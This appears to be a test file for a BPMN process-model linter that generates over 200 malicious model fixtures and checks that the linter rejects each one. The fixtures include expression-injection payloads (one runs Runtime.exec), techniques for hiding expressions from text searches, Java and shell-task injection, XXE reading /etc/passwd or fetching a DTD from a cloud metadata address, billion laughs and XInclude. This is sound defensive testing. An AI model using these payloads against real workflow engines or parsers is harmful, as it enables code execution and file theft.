import { describe, expect, it } from 'vitest';
import { lintProcessModel } from './lint-process-model.ts';
import { escapeXml, inputParameter, model, sequence, task, taskModel } from './fixtures/model-builder.ts';

interface Attack {
  readonly name: string;
  readonly xml: string;
  readonly rule: string;
}

const payloads = [
  '${execution.getProcessEngineServices().getRepositoryService()}',
  '${"".getClass().forName("java.lang.Runtime").getMethod("exec", x).invoke(y, "id")}',
  '#{processEngine.managementService.getProperties()}',
  '${runtimeService.createMessageCorrelation("x").correlate()}',
  '${"a".class.classLoader}',
  '${S("{}").prop("x").value()}',
  '${execution.processEngineServices}',
  '${true ? bean.run() : 1}',
  'all of ${systemEnvironment}',
  'safe ${a} and ${b["class"]}',
];

/** Every place where the engine evaluates an expression. */
const places: Readonly<Record<string, (expression: string) => string>> = {
  'input parameter': (e) => taskModel({ extensions: inputParameter(e) }),
  'output parameter': (e) =>
    taskModel({
      extensions: `<camunda:inputOutput><camunda:outputParameter name="x">${e}</camunda:outputParameter></camunda:inputOutput>`,
    }),
  'list item': (e) =>
    taskModel({ extensions: inputParameter(`<camunda:list><camunda:value>${e}</camunda:value></camunda:list>`) }),
  'map key': (e) =>
    taskModel({ extensions: inputParameter(`<camunda:map><camunda:entry key="${e}">1</camunda:entry></camunda:map>`) }),
  'value in a foreign element': (e) => taskModel({ extensions: inputParameter(`<x:any xmlns:x="urn:x">${e}</x:any>`) }),
  'value in a diagram element': (e) => taskModel({ extensions: inputParameter(`<dc:Bounds>${e}</dc:Bounds>`) }),
  'documentation as a value': (e) =>
    taskModel({ extensions: inputParameter(`<bpmn:documentation>${e}</bpmn:documentation>`) }),
  topic: (e) => taskModel().replace('camunda:topic="check_order"', `camunda:topic="${e}"`),
  'task priority': (e) => taskModel({ attributes: `camunda:taskPriority="${e}"` }),
  'job priority': (e) => taskModel({ attributes: `camunda:jobPriority="${e}"` }),
  'retry cycle': (e) =>
    taskModel({ extensions: `<camunda:failedJobRetryTimeCycle>${e}</camunda:failedJobRetryTimeCycle>` }),
  'error of a task': (e) =>
    taskModel({ extensions: `<camunda:errorEventDefinition id="failure" expression="${e}" />` }),
  condition: (e) =>
    model(
      sequence(task('work')).replace(
        'targetRef="work" />',
        `targetRef="work"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${e}</bpmn:conditionExpression></bpmn:sequenceFlow>`,
      ),
    ),
  'called element': (e) => model(sequence(`<bpmn:callActivity id="call" calledElement="${e}" />`)),
  'business key of a call': (e) =>
    model(
      sequence(
        `<bpmn:callActivity id="call" calledElement="x"><bpmn:extensionElements><camunda:in businessKey="${e}" /></bpmn:extensionElements></bpmn:callActivity>`,
      ),
    ),
  'source of a call': (e) =>
    model(
      sequence(
        `<bpmn:callActivity id="call" calledElement="x"><bpmn:extensionElements><camunda:in sourceExpression="${e}" target="y" /></bpmn:extensionElements></bpmn:callActivity>`,
      ),
    ),
  'name of a user task': (e) => model(sequence(`<bpmn:userTask id="ask" name="${e}" />`)),
  'documentation of a user task': (e) =>
    model(sequence(`<bpmn:userTask id="ask"><bpmn:documentation>${e}</bpmn:documentation></bpmn:userTask>`)),
  assignee: (e) => model(sequence(`<bpmn:userTask id="ask" camunda:assignee="${e}" />`)),
  'due date': (e) => model(sequence(`<bpmn:userTask id="ask" camunda:dueDate="${e}" />`)),
  'form field': (e) =>
    model(
      sequence(
        `<bpmn:userTask id="ask"><bpmn:extensionElements><camunda:formData><camunda:formField id="x" type="string" defaultValue="${e}" /></camunda:formData></bpmn:extensionElements></bpmn:userTask>`,
      ),
    ),
  'candidate starters': (e) => taskModel({}, { processAttributes: `camunda:candidateStarterUsers="${e}"` }),
  timer: (e) =>
    model(
      sequence(
        `<bpmn:intermediateCatchEvent id="wait"><bpmn:timerEventDefinition><bpmn:timeDuration>${e}</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>`,
      ),
    ),
  'conditional event': (e) =>
    model(
      sequence(
        `<bpmn:intermediateCatchEvent id="wait"><bpmn:conditionalEventDefinition><bpmn:condition>${e}</bpmn:condition></bpmn:conditionalEventDefinition></bpmn:intermediateCatchEvent>`,
      ),
    ),
  'loop cardinality': (e) =>
    taskModel({
      children: `<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>${e}</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>`,
    }),
  'completion condition': (e) =>
    taskModel({
      children: `<bpmn:multiInstanceLoopCharacteristics><bpmn:completionCondition>${e}</bpmn:completionCondition></bpmn:multiInstanceLoopCharacteristics>`,
    }),
  collection: (e) => taskModel({ children: `<bpmn:multiInstanceLoopCharacteristics camunda:collection="${e}" />` }),
  'message name': (e) => taskModel({}, { rootElements: `<bpmn:message id="m" name="${e}" />` }),
  'signal name': (e) => taskModel({}, { rootElements: `<bpmn:signal id="s" name="${e}" />` }),
};

/** Ways to write an expression so that a search for "${" in the file does not see it. */
const disguises: Readonly<Record<string, (expression: string) => string>> = {
  'decimal references': (e) => e.replaceAll('$', '&#36;').replaceAll('#{', '&#35;{'),
  'hexadecimal references': (e) => e.replaceAll('{', '&#x7b;'),
  CDATA: (e) => `<![CDATA[${e}]]>`,
  'a comment in the middle': (e) => e.replaceAll('{', '<!-- -->{'),
  'a processing instruction in the middle': (e) => e.replaceAll('{', '<?x y?>{'),
  'CDATA for one character': (e) => e.replaceAll('{', '<![CDATA[{]]>'),
};

const expressionAttacks: Attack[] = Object.entries(places).flatMap(([place, build]) =>
  payloads.map((payload) => ({
    name: `${payload} as ${place}`,
    xml: build(escapeXml(payload)),
    rule: 'safe-expressions',
  })),
);

const disguisedAttacks: Attack[] = Object.entries(disguises).flatMap(([disguise, hide]) =>
  payloads.slice(0, 4).map((payload) => ({
    name: `${payload} disguised by ${disguise}`,
    xml: taskModel({ extensions: inputParameter(hide(disguise === 'CDATA' ? payload : escapeXml(payload))) }),
    rule: 'safe-expressions',
  })),
);

const extensionNamespaces = [
  'http://camunda.org/schema/1.0/bpmn',
  'http://operaton.org/schema/1.0/bpmn',
  'http://activiti.org/bpmn',
];
const inForeignPrefix = (uri: string, content: string): string =>
  `<bpmn:extensionElements xmlns:v="${uri}">${content}</bpmn:extensionElements>`;

const javaAttacks: Attack[] = extensionNamespaces.flatMap((uri) => {
  const serviceTask = (attribute: string): string =>
    model(sequence(`<bpmn:serviceTask id="work" xmlns:v="${uri}" v:${attribute} />`));
  const listener = (content: string): string =>
    model(
      sequence(
        `<bpmn:serviceTask id="work" camunda:type="external" camunda:topic="t">${inForeignPrefix(uri, content)}</bpmn:serviceTask>`,
      ),
    );
  return [
    { name: `a class (${uri})`, xml: serviceTask('class="com.evil.Delegate"'), rule: 'no-java' },
    { name: `a bean (${uri})`, xml: serviceTask('delegateExpression="${bean}"'), rule: 'no-java' },
    { name: `an expression task (${uri})`, xml: serviceTask('expression="${a}"'), rule: 'no-java' },
    { name: `the shell task (${uri})`, xml: serviceTask('type="shell"'), rule: 'external-task-implementation' },
    { name: `the mail task (${uri})`, xml: serviceTask('type="Mail"'), rule: 'external-task-implementation' },
    {
      name: `an execution listener with a class (${uri})`,
      xml: listener('<v:executionListener class="com.evil.L" event="start" />'),
      rule: 'no-java',
    },
    {
      name: `an execution listener with a script (${uri})`,
      xml: listener(
        '<v:executionListener event="start"><v:script scriptFormat="groovy">x</v:script></v:executionListener>',
      ),
      rule: 'no-script',
    },
    {
      name: `a task listener with an expression (${uri})`,
      xml: listener('<v:taskListener event="create" expression="${a}" />'),
      rule: 'no-java',
    },
    {
      name: `a connector (${uri})`,
      xml: listener('<v:connector><v:connectorId>http-connector</v:connectorId></v:connector>'),
      rule: 'no-java',
    },
    { name: `field injection (${uri})`, xml: listener('<v:field name="command" stringValue="id" />'), rule: 'no-java' },
    {
      name: `a form handler (${uri})`,
      xml: model(sequence(`<bpmn:userTask id="ask" xmlns:v="${uri}" v:formHandlerClass="com.evil.F" />`)),
      rule: 'no-java',
    },
    {
      name: `a variable mapping class (${uri})`,
      xml: model(
        sequence(
          `<bpmn:callActivity id="call" calledElement="x" xmlns:v="${uri}" v:variableMappingClass="com.evil.M" />`,
        ),
      ),
      rule: 'no-java',
    },
    {
      name: `a validator (${uri})`,
      xml: model(
        sequence(
          `<bpmn:userTask id="ask">${inForeignPrefix(uri, '<v:formData><v:formField id="f"><v:validation><v:constraint name="validator" config="com.evil.V" /></v:validation></v:formField></v:formData>')}</bpmn:userTask>`,
        ),
      ),
      rule: 'no-java',
    },
    {
      name: `a script from a resource (${uri})`,
      xml: listener(
        '<v:inputOutput><v:inputParameter name="x"><v:script scriptFormat="groovy" resource="deployment://x.groovy" /></v:inputParameter></v:inputOutput>',
      ),
      rule: 'no-external-resource',
    },
    {
      name: `a form from elsewhere (${uri})`,
      xml: model(sequence(`<bpmn:userTask id="ask" xmlns:v="${uri}" v:formKey="http://evil.test/form" />`)),
      rule: 'no-external-resource',
    },
  ];
});

const languages = ['javascript', 'groovy', 'python', 'ruby', 'juel'];
const scriptAttacks: Attack[] = languages.flatMap((language) => [
  {
    name: `a ${language} task`,
    xml: model(
      sequence(`<bpmn:scriptTask id="work" scriptFormat="${language}"><bpmn:script>x</bpmn:script></bpmn:scriptTask>`),
    ),
    rule: 'no-script',
  },
  {
    name: `a ${language} task in another namespace`,
    xml: model(
      sequence(
        `<x:scriptTask xmlns:x="urn:x" id="work" scriptFormat="${language}"><x:script>x</x:script></x:scriptTask>`,
      ),
    ),
    rule: 'no-script',
  },
  {
    name: `a ${language} input`,
    xml: taskModel({ extensions: inputParameter(`<camunda:script scriptFormat="${language}">x</camunda:script>`) }),
    rule: 'no-script',
  },
  {
    name: `a ${language} input in another namespace`,
    xml: taskModel({ extensions: inputParameter(`<script xmlns="urn:x" scriptFormat="${language}">x</script>`) }),
    rule: 'no-script',
  },
  {
    name: `a ${language} input among diagram elements`,
    xml: taskModel({ extensions: inputParameter(`<di:script scriptFormat="${language}">x</di:script>`) }),
    rule: 'no-script',
  },
  {
    name: `a ${language} condition`,
    xml: model(
      sequence(task('work')).replace(
        'targetRef="work" />',
        `targetRef="work"><bpmn:conditionExpression language="${language}">x</bpmn:conditionExpression></bpmn:sequenceFlow>`,
      ),
    ),
    rule: 'no-script',
  },
]);

const withoutProlog = taskModel({}, { prolog: '' }).trimStart();
const laughs = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join(
  '',
);
const intakeAttacks: Attack[] = [
  {
    name: 'XXE to a file',
    xml: `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>${withoutProlog.replace('id="work"', 'id="work" name="&x;"')}`,
    rule: 'safe-intake',
  },
  {
    name: 'XXE to a host',
    xml: `<!DOCTYPE d SYSTEM "http://169.254.169.254/x.dtd">${withoutProlog}`,
    rule: 'safe-intake',
  },
  {
    name: 'a parameter entity',
    xml: `<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.test/x"> %x;]>${withoutProlog}`,
    rule: 'safe-intake',
  },
  { name: 'billion laughs', xml: `<!DOCTYPE d [<!ENTITY l0 "lol">${laughs}]>${withoutProlog}`, rule: 'safe-intake' },
  { name: 'a DOCTYPE behind a comment', xml: `<!-- x --><!DOCTYPE d>${withoutProlog}`, rule: 'safe-intake' },
  { name: 'an entity declaration alone', xml: `${withoutProlog}<!ENTITY x "y">`, rule: 'safe-intake' },
  {
    name: 'XInclude',
    xml: taskModel({ extensions: '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd" />' }),
    rule: 'safe-intake',
  },
  {
    name: 'XInclude by reference',
    xml: taskModel({ extensions: '<x:include xmlns:x="http://www.w3.org/2001/XI&#110;clude" href="/etc/passwd" />' }),
    rule: 'safe-intake',
  },
  { name: 'UTF-7', xml: `<?xml version="1.0" encoding="utf-7"?>${withoutProlog}`, rule: 'safe-intake' },
  { name: 'EBCDIC', xml: `<?xml version='1.0' encoding='IBM037'?>${withoutProlog}`, rule: 'safe-intake' },
  { name: 'UTF-16', xml: `<?xml version="1.0" encoding="UTF-16"?>${withoutProlog}`, rule: 'safe-intake' },
  {
    name: 'deep nesting',
    xml: taskModel({
      extensions: inputParameter(`${'<camunda:list>'.repeat(10_000)}${'</camunda:list>'.repeat(10_000)}`),
    }),
    rule: 'safe-intake',
  },
  {
    name: 'very many elements',
    xml: taskModel({ extensions: '<camunda:properties />'.repeat(50_000) }),
    rule: 'safe-intake',
  },
  {
    name: 'an import',
    xml: taskModel().replace(
      '<bpmn:process',
      '<bpmn:import importType="http://schemas.xmlsoap.org/wsdl/" location="http://evil.test/x.wsdl" namespace="x" /><bpmn:process',
    ),
    rule: 'no-external-resource',
  },
  {
    name: 'a schema from elsewhere',
    xml: taskModel({}, { definitionsAttributes: 'xsi:schemaLocation="urn:x http://169.254.169.254/x.xsd"' }),
    rule: 'no-external-resource',
  },
  {
    name: 'a schema without namespace',
    xml: taskModel({}, { definitionsAttributes: 'xsi:noNamespaceSchemaLocation="file:///x.xsd"' }),
    rule: 'no-external-resource',
  },
  {
    name: 'a mail task on a message event',
    xml: model(
      sequence(
        '<bpmn:intermediateThrowEvent id="send"><bpmn:messageEventDefinition camunda:type="mail" /></bpmn:intermediateThrowEvent>',
      ),
    ),
    rule: 'external-task-implementation',
  },
];

const attacks: Attack[] = [
  ...expressionAttacks,
  ...disguisedAttacks,
  ...javaAttacks,
  ...scriptAttacks,
  ...intakeAttacks,
];

describe('malicious models', () => {
  it('are many: at least 200 different ones', () => {
    expect(new Set(attacks.map(({ xml }) => xml)).size).toBe(attacks.length);
    expect(attacks.length).toBeGreaterThanOrEqual(200);
  });

  it.each(attacks)('$name is refused', async ({ xml, rule }) => {
    const errors = (await lintProcessModel(xml)).filter(({ severity }) => severity === 'error');

    expect(errors.map((finding) => finding.rule)).toContain(rule);
  });
});
